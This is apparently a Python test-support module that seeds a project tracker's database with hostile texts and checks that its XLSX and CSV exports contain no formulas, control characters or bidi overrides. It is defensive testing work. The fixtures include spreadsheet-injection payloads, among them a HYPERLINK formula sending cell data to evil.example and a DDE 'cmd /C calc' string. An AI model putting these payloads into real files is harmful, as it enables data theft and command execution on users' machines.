"""Hostile texts stored as any surface would store them, and readers for the exports they reach."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from data.db import transaction
from data.models import Measure, Milestone, State, StatusReport
from seuranta.text import FORMULA_STARTS
from tests.support.programme import NOW

HOSTILE_NOTES = {
    "1.2": '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "2.1": "+1+cmd|' /C calc'!A0",
    "2.2": "-2+3\x01",
    "2.3": "@SUM(1+1)\x0bWordin rivinvaihto",
    "2.4": "\t=1+1\u202e",
}
HOSTILE_REPORTER = "U0HOSTILE"
# A deadline added in chat before the policy; the schedule cell starts with its text.
HOSTILE_DEADLINE = "=1+2\x0bpäivitetty\u202e"


def store_hostile_texts(factory: sessionmaker[Session]) -> None:
    """HOSTILE_NOTES as the measures' latest notes, HOSTILE_DEADLINE as a deadline of 1.1."""
    with transaction(factory) as session:
        ids = {number: id_ for number, id_ in session.execute(select(Measure.number, Measure.id))}
        for number, note in HOSTILE_NOTES.items():
            session.add(
                StatusReport(
                    measure_id=ids[number],
                    state=State.AT_RISK,
                    note=note,
                    reporter=HOSTILE_REPORTER,
                    source="thread",
                    created_at=NOW,
                )
            )
        session.add(
            Milestone(
                measure_id=ids["1.1"],
                text=HOSTILE_DEADLINE,
                kind="date",
                due=date(2019, 3, 31),
                position=-1,  # first in the schedule cell
                origin="chat",
                created_at=NOW,
            )
        )


def assert_plain_text(value: object) -> None:
    """A cell a spreadsheet shows as text: no formula start, control or bidi character."""
    if isinstance(value, str):
        assert not value.startswith(FORMULA_STARTS), value
        assert all(c in "\n\t" or ord(c) >= 32 for c in value), value
        assert "\u202e" not in value, value


def xlsx_rows(content: bytes) -> list[tuple[object, ...]]:
    """The sheet's values, after checking that no cell is a formula or holds hostile text."""
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            assert_plain_text(cell.value)
    return list(sheet.iter_rows(values_only=True))


def csv_rows(content: bytes) -> list[list[str]]:
    """The csv's rows, after the same checks."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            assert_plain_text(value)
    return rows
